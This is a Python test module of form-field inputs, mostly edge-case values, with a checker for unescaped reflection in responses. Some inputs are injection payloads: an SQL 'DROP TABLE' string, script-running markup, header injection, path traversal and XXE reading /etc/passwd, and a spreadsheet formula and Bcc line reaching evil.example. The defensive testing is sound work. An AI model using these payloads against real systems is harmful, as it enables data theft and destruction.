"""What is sent for a field, whatever the field is for (reliability §6, HTML/forms)."""

import re
import uuid
from typing import Any

# No word of the site's, so that it is found in an answer only if it was sent there.
MARK = "zqmark"
MARKUP = f"<svg/onload={MARK}()>"
SUM, SUMMED = "191*7", str(191 * 7)

# What is written for a field: pairs of what is added to the field's name, and the value.
type Written = list[tuple[str, bytes]]

_TEXTS: dict[str, str | bytes] = {
    "empty": "",
    "a blank": " ",
    "blanks and line ends": " \t\r\n\x0b\x0c ",
    "no-break and zero-width blanks": "\u00a0\u200b\ufeff",
    "100 kB": "a" * 100_000,
    "100 kB in no letters of ours": "\U0001f4a9" * 25_000,
    "NUL": "\x00",
    "NUL within": "a\x00b@contoso.example",
    "control characters": "a\x01\x08\x1b[31m\x7f\x85b",
    "a lone surrogate": b"\xed\xa0\x80",
    "no UTF-8": b"\xff\xfe\xc3\x28",
    "right to left": "a\u202egpj.exe\u2066",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "combining": "Z" + "\u0351\u0329" * 50,
    "letters that change their length": "\u0130\u1e9e\u0149",
    "the last code points": "\ufffe\uffff\U0010ffff",
    "line separators": "a\u2028b\u2029c\x1c",
    "zero": "0",
    "minus one": "-1",
    "a plus": "+1",
    "a comma": "1,5",
    "2**31": str(2**31),
    "-2**31-1": str(-(2**31) - 1),
    "2**63": str(2**63),
    "10**400": str(10**400),
    "1e309": "1e309",
    "an exponent": "1E+999999999",
    "NaN": "NaN",
    "Infinity": "-Infinity",
    "an underscore": "1_000",
    "full-width digits": "\uff11\uff12",
    "a superscript": "\u00b2",
    "hexadecimal": "0x10",
    "a date of zeros": "0000-00-00",
    "no such day": "2026-02-30",
    "the last day": "9999-12-31",
    "the last instant": "9999-12-31T23:59:59+23:59",
    "the last instant, farther west": "9999-12-31T23:59:59-23:59",
    "the first instant": "0001-01-01T00:00:00+23:59",
    "a missing key": str(uuid.UUID(int=2**128 - 1)),
    "SQL": "' OR 1=1; DROP TABLE directory_user; --",
    "a search": "a:* & !b | <-> 'c",
    "markup": MARKUP,
    "an attribute": f"\" onfocus={MARK}() x='{MARK}'",
    "the end of a script": f"</script></textarea></title>{MARKUP}",
    "an address": f"javascript:{MARK}()",
    "a template": f"{MARK}{{{{ {SUM} }}}}{{% debug %}}${{{SUM}}}<%= {SUM} %>#{{{SUM}}}",
    "a format": "%s%n%(tenant)s{0.__class__}{tenant}",
    "a header": f"a\r\nX-{MARK}: 1\r\n\r\n{MARKUP}",
    "a way up": "../../../../etc/passwd\x00.csv",
    "JSON": '{"__proto__": {"a": [1e999, null]}, "$ne": 1}',
    "nested": "[" * 10_000,
    "half a letter in JSON": '{"default": "\\ud800"}',
    # ["f", "\ud800", 1] as a list writes where it goes on.
    "half a letter in a cursor": "WyJmIiwgIlx1ZDgwMCIsIDFd",
    "a formula": f'=HYPERLINK("https://evil.example/{MARK}"&A1,"x")',
    "XML": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a mail of two": "a@contoso.example,b@contoso.example\nBcc: c@evil.example",
    "a domain of other letters": "a@xn--\u0430.\u3002example",
    "a query": "?a=1&b=2#c",
}
VALUES: dict[str, Written] = {
    **{name: [("", text if isinstance(text, bytes) else text.encode())] for name, text in _TEXTS.items()},
    "missing": [],
    "twice": [("", b"1"), ("", b"2")],
    "a hundred": [("", str(number).encode()) for number in range(100)],
    "an array": [("[]", b"1"), ("[0]", b"2")],
    "an object": [("[__proto__][a]", b"1"), (".a", b"1"), ("__in", b"1")],
    "a form more": [("-TOTAL_FORMS", b"1000000"), ("-INITIAL_FORMS", b"-1")],
}

_RAW = (f"<svg/onload={MARK}", f'" onfocus={MARK}', f"x='{MARK}", f"{MARK}{SUMMED}")
_RUNS = re.compile(rf"""\b(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:{MARK}""", re.I)


def reflected(answer: Any) -> list[str]:
    """What of the values above an answer gives back so that a browser or a server takes it for more than text."""
    text = answer.content.decode(errors="replace")
    found = [raw for raw in _RAW if raw in text] + _RUNS.findall(text)
    for name, value in answer.items():
        if f"x-{MARK}" in name.lower() or any(raw in value for raw in (*_RAW, "\r", "\n")):
            found.append(f"{name}: {value}")
    return found
